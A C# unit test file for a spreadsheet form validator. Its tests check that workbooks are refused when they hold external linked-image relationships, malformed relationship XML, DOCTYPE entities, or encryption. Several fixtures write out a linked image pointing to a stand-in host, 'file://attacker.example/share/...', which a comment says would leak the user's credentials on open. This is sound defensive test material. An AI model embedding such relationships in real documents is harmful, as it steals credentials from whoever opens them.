using System.Text;
using ProcurementKit.Evaluation.Forms;
using ProcurementKit.Tests.Support;

namespace ProcurementKit.Tests.Evaluation.Forms;

/// <summary>
/// Relationships that point outside the package are found by reading each .rels part as XML, so no spelling
/// of the same relationship (quotes, whitespace, prefixes, casing) slips past the check.
/// </summary>
public sealed class ExternalRelationshipTests
{
    private const string Opc = "http://schemas.openxmlformats.org/package/2006/relationships";

    // A linked (not embedded) image: opening the sheet would fetch it, and a file:// share leaks the user's credentials.
    private const string Image = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image";
    private const string Hyperlink = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink";

    private static byte[] Valid => FormFixture.Filled().Apply(FormFixture.Blank());

    private static byte[] WithSheetRelationships(string relationships)
    {
        var sheet = ZipEdit.Names(Valid).First(n => n.StartsWith("xl/worksheets/sheet", StringComparison.Ordinal));
        return ZipEdit.Put(Valid, $"xl/worksheets/_rels/{Path.GetFileName(sheet)}.rels",
            $"""<?xml version="1.0" encoding="utf-8"?>{relationships}""");
    }

    [Theory]
    [InlineData($"""<Relationships xmlns="{Opc}"><Relationship Id='rIdX' Type='{Image}' Target='file://attacker.example/share/logo.png' TargetMode='External'/></Relationships>""")]
    [InlineData($"""<Relationships xmlns="{Opc}"><Relationship Id="rIdX" Type="{Image}" Target="file://attacker.example/share/logo.png" TargetMode = "External"/></Relationships>""")]
    [InlineData($"""<r:Relationships xmlns:r="{Opc}"><r:Relationship Id="rIdX" Type="{Image}" Target="file://attacker.example/share/logo.png" TargetMode="External"/></r:Relationships>""")]
    [InlineData($"""<Relationships xmlns="{Opc}"><Relationship xmlns:r="{Opc}" Id="rIdX" Type="{Image}" Target="file://attacker.example/share/logo.png" TargetMode="external"/></Relationships>""")]
    [InlineData($"""<Relationships xmlns="{Opc}"><Relationship Id="rIdX" Type="{Image}" Target="file://attacker.example/share/logo.png" TargetMode=" External&#9;"/></Relationships>""")]
    public void Should_RefuseWorkbook_When_ASheetRelationshipPointsOutsideInAnySpelling(string relationships)
    {
        var result = FormFixture.Read(WithSheetRelationships(relationships), "bieter.xlsx");

        result.Response.ShouldBeNull();
        var problem = result.Problems.ShouldHaveSingleItem();
        (problem.Code, problem.Message).ShouldBe(("PK0607",
            "the workbook links to external content (xl/worksheets/_rels/sheet1.xml.rels: external relationship); remove the links and return the plain form"));
    }

    [Fact]
    public void Should_RefuseWorkbook_When_TheHyperlinkTypeOnlyAppearsInTheTarget()
    {
        // The text search let any relationship pass whose text held "/relationships/hyperlink\"" somewhere.
        var file = WithSheetRelationships($"""<Relationships xmlns="{Opc}"><Relationship Id="rIdX" Type="{Image}" Target="file://attacker.example/relationships/hyperlink" TargetMode="External"/></Relationships>""");

        FormFixture.Read(file).Problems.ShouldHaveSingleItem().Code.ShouldBe("PK0607");
    }

    [Fact]
    public void Should_ReadTheForm_When_ACellHyperlinkIsWrittenWithSingleQuotes()
    {
        // Cell hyperlinks are allowed (never followed); the spelling must not change that either way.
        var file = WithSheetRelationships($"""<Relationships xmlns="{Opc}"><Relationship Id='rIdH' Type='{Hyperlink}' Target='https://example.com/' TargetMode='External'/></Relationships>""");

        FormFixture.Read(file).Succeeded.ShouldBeTrue();
    }

    [Theory]
    [InlineData($"""<Relationships xmlns="{Opc}"><Relationship Id="rIdX" Type="{Image}" """)]
    [InlineData("""<Relationships><Relationship Id=rIdX/></Relationships>""")]
    [InlineData("""<!DOCTYPE r [<!ENTITY e "x">]><Relationships/>""")]
    public void Should_RefuseFile_When_ARelationshipsPartIsNotWellFormed(string relationships)
    {
        var problem = FormFixture.Read(WithSheetRelationships(relationships), "bieter.xlsx").Problems.ShouldHaveSingleItem();

        problem.Code.ShouldBe("PK0602");
        problem.Message.ShouldStartWith("not a valid .xlsx workbook (xl/worksheets/_rels/sheet1.xml.rels is not well-formed XML: ");
    }

    [Fact]
    public void Should_RefuseWorkbook_When_ItIsEncryptedWhereverTheStreamNameLies()
    {
        // The name is searched as UTF-16 bytes; at an odd offset too, since the search must not depend on alignment.
        var file = new byte[4099];
        new byte[] { 0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1 }.CopyTo(file, 0);
        Encoding.Unicode.GetBytes("EncryptionInfo").CopyTo(file, 4099 - 28);

        FormFixture.Read(file).Problems.ShouldHaveSingleItem().Code.ShouldBe("PK0603");
    }

    [Fact]
    public void Should_RefuseFileAsLegacyXls_When_AnOleFileNamesNoEncryptionInfo()
    {
        var file = new byte[4096];
        new byte[] { 0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1 }.CopyTo(file, 0);
        Encoding.Unicode.GetBytes("Workbook").CopyTo(file, 1024);
        Encoding.ASCII.GetBytes("EncryptionInfo").CopyTo(file, 2048); // not the UTF-16 name of a stream

        FormFixture.Read(file).Problems.ShouldHaveSingleItem().Code.ShouldBe("PK0604");
    }
}
